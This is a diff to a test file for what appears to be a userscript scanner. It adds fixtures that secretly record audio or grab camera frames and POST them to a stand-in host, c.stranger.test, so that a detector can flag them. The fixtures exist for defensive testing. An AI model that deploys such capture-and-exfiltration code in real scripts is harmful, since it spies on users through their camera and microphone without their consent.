@@ -12,6 +12,18 @@ describe("media-capture", () => {
 				`navigator.mediaDevices.getUserMedia({audio:true}).then(s=>{const r=new MediaRecorder(s);r.ondataavailable=e=>fetch("https://c.stranger.test/",{method:"POST",body:e.data});r.start()})`,
 			),
 		],
+		...[
+			`v.srcObject=s`,
+			`v.src=URL.createObjectURL(s)`,
+			`const u=window.URL||window.webkitURL;v.setAttribute("src",u.createObjectURL(s))`,
+		].map((show): [string, string[], string] => [
+			`pictures of the camera: ${show}`,
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`navigator.mediaDevices.getUserMedia({video:true}).then(s=>{const v=document.createElement("video"),c=document.createElement("canvas");${show};c.getContext("2d").drawImage(v,0,0);fetch("https://c.stranger.test/",{method:"POST",body:c.toDataURL()})})`,
+			),
+		]),
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(mediaCapture, code)).toEqual(expected);
 	});
